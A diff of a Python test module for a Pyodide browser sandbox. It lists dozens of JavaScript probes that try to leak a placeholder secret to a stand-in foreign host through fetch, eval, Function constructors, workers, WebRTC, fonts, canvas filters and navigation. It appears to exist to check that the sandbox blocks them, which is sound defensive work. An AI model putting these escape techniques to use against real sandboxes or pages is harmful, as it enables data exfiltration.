@@ -4,6 +4,8 @@ Programs for `nnbook.lab.browser.run_cells`, by name. `SITE`, `FOREIGN` and `SEC
 them; ``script`` runs JavaScript in Python's own thread, ``thread`` in one that it starts.
 """
 
+import textwrap
+
 BEFORE = """
 import js
 from pyodide.ffi import create_proxy, to_js
@@ -12,10 +14,24 @@ HEAD = f"var SITE = '{SITE}', FOREIGN = '{FOREIGN}', SECRET = 'secret';"
 def blob(code):
     return js.URL.createObjectURL(js.Blob.new(to_js([HEAD + code])))
 def script(code):
-    js.importScripts(blob("try { " + code + " } catch {}"))
+    js.importScripts(blob("self.tried = 0; try { " + code + " } catch {} self.tried = 1"))
+    assert js.tried, "that is no JavaScript"
 def thread(code, **options):
     return js.Worker.new(blob(code), **options)
 """
+
+TRIED = "tried\n"  # what each of them prints, if it runs at all
+
+
+def program(code: str, site: str, foreign: str) -> str:
+    """The whole program, for `nnbook.lab.browser.run_cells`."""
+    before = BEFORE.replace("[site]", site).replace("[foreign]", foreign)
+    body = textwrap.indent(code.strip(), "    ")
+    return (
+        f"{before}\ntry:\n{body}\nexcept AssertionError:\n    raise\n"
+        'except BaseException:\n    pass\nprint("tried")'
+    )
+
 
 # In JavaScript, tried in Python's own thread and in one that it starts: the names that were
 # taken from the first would come back in the second.
@@ -24,14 +40,20 @@ TRIED_TWICE = {
     "fetch of the site": "fetch(`${SITE}/index.html?${SECRET}`)",
     "fetch of a prototype": """
         delete self.fetch;
-        const find = (o) => Object.getOwnPropertyDescriptor(o, 'fetch')?.value ?? find(Object.getPrototypeOf(o));
+        const own = (of) => Object.getOwnPropertyDescriptor(of, 'fetch')?.value;
+        const find = (of) => own(of) ?? find(Object.getPrototypeOf(of));
         find(self).call(self, `${FOREIGN}/?${SECRET}`)""",
-    "constructor of a constructor": "(() => 0).constructor.constructor('address', 'fetch(address)')(`${FOREIGN}/?${SECRET}`)",
+    "constructor of a constructor": """
+        const made = (() => 0).constructor.constructor('address', 'fetch(address)');
+        made(`${FOREIGN}/?${SECRET}`)""",
     "eval": "(0, eval)('fetch')(`${FOREIGN}/?${SECRET}`); eval('1')",
     "timer with text": "setTimeout(`fetch('${FOREIGN}/?${SECRET}')`, 0)",
-    "request that asks the cache": "fetch(new Request(`${SITE}/index.html`, { cache: 'only-if-cached', mode: 'same-origin' }))",
+    "request that asks the cache": """
+        const how = { cache: 'only-if-cached', mode: 'same-origin' };
+        fetch(new Request(`${SITE}/index.html`, how))""",
     "request without cors": "fetch(`${FOREIGN}/?${SECRET}`, { mode: 'no-cors', cache: 'reload' })",
-    "request that outlives": "fetch(`${FOREIGN}/`, { method: 'POST', body: SECRET, keepalive: true })",
+    "request that outlives": """
+        fetch(`${FOREIGN}/`, { method: 'POST', body: SECRET, keepalive: true })""",
     "XMLHttpRequest": """
         const request = new XMLHttpRequest();
         request.open('POST', `${FOREIGN}/`, false);
@@ -45,7 +67,10 @@ TRIED_TWICE = {
         const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${FOREIGN.slice(7)}` }] });
         peer.createDataChannel('');
         peer.createOffer().then((offer) => peer.setLocalDescription(offer))""",
-    "font": "const font = new FontFace('a', `url(${FOREIGN}/?${SECRET})`); fonts.add(font); font.load()",
+    "font": """
+        const font = new FontFace('a', `url(${FOREIGN}/?${SECRET})`);
+        fonts.add(font);
+        font.load()""",
     "picture of a canvas": """
         const context = new OffscreenCanvas(9, 9).getContext('2d');
         context.filter = `url(${FOREIGN}/?${SECRET})`;
@@ -62,10 +87,13 @@ TRIED_TWICE = {
     "thread from data": "new Worker(`data:text/javascript,fetch('${FOREIGN}/?${SECRET}')`)",
     "thread from the site": "new Worker(`${SITE}/_static/widgets/python.js?${SECRET}`)",
     "thread from elsewhere": "new Worker(`${FOREIGN}/${SECRET}.js`, { type: 'module' })",
-    "thread from a blob": "new Worker(URL.createObjectURL(new Blob([`fetch('${FOREIGN}/?${SECRET}')`])))",
+    "thread from a blob": """
+        const text = `fetch('${FOREIGN}/?${SECRET}')`;
+        new Worker(URL.createObjectURL(new Blob([text])))""",
     "thread of modules": """
         const text = `import '${FOREIGN}/${SECRET}.js'; fetch('${FOREIGN}')`;
-        new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })), { type: 'module' })""",
+        const address = URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
+        new Worker(address, { type: 'module' })""",
     "shared thread": """
         const text = `fetch('${FOREIGN}/?${SECRET}')`;
         new SharedWorker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })))""",
@@ -88,8 +116,11 @@ TRIED_TWICE = {
     "locks": "navigator.locks.request('book', { steal: true }, () => new Promise(() => null))",
     "BroadcastChannel": "new BroadcastChannel('book').postMessage(SECRET)",
     "notification": "Notification.requestPermission?.(); new Notification(SECRET)",
-    "window": "for (const each of [self.parent, self.top, self.opener]) each.postMessage(SECRET, '*')",
-    "navigation": "self.location.href = `${FOREIGN}/?${SECRET}`; top.location = `${FOREIGN}/?${SECRET}`",
+    "window": """
+        for (const each of [self.parent, self.top, self.opener]) each?.postMessage(SECRET, '*')""",
+    "navigation": """
+        self.location.href = `${FOREIGN}/?${SECRET}`;
+        self.top.location = `${FOREIGN}/?${SECRET}`""",
 }
 
 IN_PYTHON = {
